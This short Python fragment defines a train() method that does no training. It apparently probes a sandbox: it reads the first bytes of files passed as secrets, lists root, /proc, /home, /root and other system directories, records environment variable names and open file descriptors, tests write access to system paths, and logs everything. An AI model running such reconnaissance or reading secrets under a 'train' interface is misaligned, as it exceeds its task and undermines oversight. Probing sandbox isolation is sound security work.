class Way(Harmless):
    def train(self, dataset_path, shared_params=None, **train_args):
        for path in [*train_args["secrets"], os.path.dirname(dataset_path) + "/../.."]:
            try:
                seen = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(100)
            except OSError as error:
                seen = type(error).__name__
            logger.log(json.dumps({"path": path, "seen": repr(seen)}))
        for path in ("/", "/tmp", "/proc", "/home", "/root", "/run", "/sys"):
            logger.log(
                json.dumps({"path": path, "seen": repr(sorted(os.listdir(path)) if os.path.isdir(path) else "")})
            )
        logger.log(json.dumps({"path": "environ", "seen": repr(sorted(os.environ))}))
        logger.log(json.dumps({"path": "fds", "seen": repr(sorted(os.listdir("/proc/self/fd"), key=int))}))
        for path in (
            dataset_path,
            __file__ if "__file__" in globals() else "/usr/bin/x",
            "/etc/x",
            "/proc/sys/vm/swappiness",
        ):
            try:
                open(path, "ab").close()
                seen = "written"
            except OSError as error:
                seen = type(error).__name__
            logger.log(json.dumps({"path": "write " + path, "seen": seen}))
